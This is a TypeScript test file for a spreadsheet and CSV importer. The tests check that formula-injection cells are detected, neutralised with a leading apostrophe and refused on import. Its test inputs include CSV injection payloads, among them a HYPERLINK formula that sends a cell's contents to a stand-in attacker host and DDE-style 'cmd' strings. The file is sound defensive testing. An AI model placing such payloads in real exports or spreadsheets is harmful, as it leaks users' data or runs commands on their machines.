/**
 * Cells that a spreadsheet would run as a formula: the open data's CSV
 * writes them with a leading ' (data contract, "More open data"), and the
 * importer refuses them at their cell.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runsAsFormula, spreadsheetSafe, toCsv } from '../../src/lib/csv.ts';
import { importSheets } from '../../src/office/importer.ts';
import { cleanupTemp, makeFixture } from '../helpers/fixtures.ts';
import type { Sheet } from '../../src/office/sheets.ts';

afterAll(cleanupTemp);

describe('which cells run as a formula', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?d="&B2,"点击查看")',
    '@SUM(1+1)*cmd',
    '+cmd|x',
    '-2+3+cmd',
    '\tx',
    '\rx',
    '＝1+1',
    '＋x',
    '－x',
    '＠x',
  ])('%j does', (v) => {
    expect(runsAsFormula(v)).toBe(true);
    expect(spreadsheetSafe(v)).toBe(`'${v}`);
  });
  it.each(['-1.5', '+3', '2e-3', '-200', 'A=1', '河道 - 左岸', '', '0000-6123456'])('%j does not', (v) => {
    expect(runsAsFormula(v)).toBe(false);
    expect(spreadsheetSafe(v)).toBe(v);
  });
  it('numbers and nulls pass through', () => {
    expect(spreadsheetSafe(-3)).toBe(-3);
    expect(spreadsheetSafe(null)).toBeNull();
  });
  it('published CSV neutralises, a data-folder CSV keeps the text as it is', () => {
    const rows = [['=1+1', '-1.5', 'a,b']];
    expect(toCsv(['x', 'y', 'z'], rows, { safe: true })).toBe(`x,y,z\r\n'=1+1,-1.5,"a,b"\r\n`);
    expect(toCsv(['x', 'y', 'z'], rows)).toBe(`x,y,z\r\n=1+1,-1.5,"a,b"\r\n`);
  });
});

describe('the importer', () => {
  const dir = makeFixture();
  const header = readFileSync(join(dir, 'chiefs.csv'), 'utf8').split(/\r?\n/)[0]!.split(',');
  const row = (over: Record<string, string>) => {
    const base: Record<string, string> = {
      id: 'zhang-san',
      name: '张三',
      position: '村支书',
      region: '880101000000',
      phone: '0000-5550099',
      verified: '2026-09-01',
    };
    return header.map((h) => ({ ...base, ...over })[h] ?? null);
  };
  const sheet = (rows: unknown[][]): Sheet => ({
    name: '河长名录',
    kind: 'sheet',
    rows: [{ row: 1, cells: header }, ...rows.map((cells, i) => ({ row: i + 2, cells }))],
  });

  it('refuses a text cell that would run as a formula, naming sheet, row and column, and writes nothing', () => {
    const before = readFileSync(join(dir, 'chiefs.csv'), 'utf8');
    const r = importSheets([sheet([row({ position: '=HYPERLINK("https://evil.example/","点击")' })])], dir);
    expect(r.written).toBe(false);
    const p = r.problems.find((x) => x.zh.includes('公式'));
    expect(p).toMatchObject({
      where: '工作表「河长名录」',
      row: 2,
      letter: String.fromCharCode(65 + header.indexOf('position')),
    });
    expect(readFileSync(join(dir, 'chiefs.csv'), 'utf8')).toBe(before);
  });
  it('takes a phone number that starts with + and a negative number as they are', () => {
    const r = importSheets([sheet([row({ phone: '+86 0000 5550099' })])], dir, { dryRun: true });
    expect(r.problems.filter((x) => x.zh.includes('公式'))).toEqual([]);
  });
});
